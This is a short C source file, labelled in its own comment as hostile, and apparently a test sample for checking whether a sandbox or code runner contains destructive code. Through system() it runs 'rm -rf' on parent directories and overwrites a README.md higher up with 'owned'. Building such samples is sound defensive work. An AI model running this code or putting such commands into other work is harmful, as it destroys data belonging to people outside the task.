/* Hostile: tries to delete and rewrite everything in the directories above it. */
#include <stdlib.h>
int main(void)
{
    return system("rm -rf ../../* ../../../* 2>/dev/null; echo owned > ../../../../README.md 2>/dev/null") != 0;
}
